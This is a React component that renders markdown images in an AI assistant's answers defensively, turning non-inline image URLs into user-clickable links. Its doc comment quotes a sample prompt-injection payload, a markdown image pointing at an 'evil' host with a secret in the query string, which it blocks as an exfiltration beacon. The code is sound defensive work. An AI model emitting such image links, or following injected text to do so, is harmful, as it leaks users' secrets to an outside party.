import type { ComponentProps } from 'react';

/**
 * An image in an answer. Only inline `data:` images are drawn; any other address becomes a link the
 * user may open, so a prompt-injected `![](https://evil/?q=secret)` cannot beacon on its own.
 */
export function MarkdownImage({ src, alt }: ComponentProps<'img'>) {
  const address = typeof src === 'string' ? src : '';
  const label = alt?.trim() ? alt.trim() : 'image';
  if (address.startsWith('data:image/')) {
    // eslint-disable-next-line @next/next/no-img-element -- an inline image carried in the answer itself
    return <img src={address} alt={alt ?? ''} className="max-w-full rounded-lg" />;
  }
  if (!/^https?:\/\//i.test(address)) return <span data-testid="answer-image-link">[{label}]</span>;
  return (
    <a data-testid="answer-image-link" href={address} target="_blank" rel="noopener noreferrer nofollow" referrerPolicy="no-referrer" className="break-all underline">
      [{label}: {address}]
    </a>
  );
}
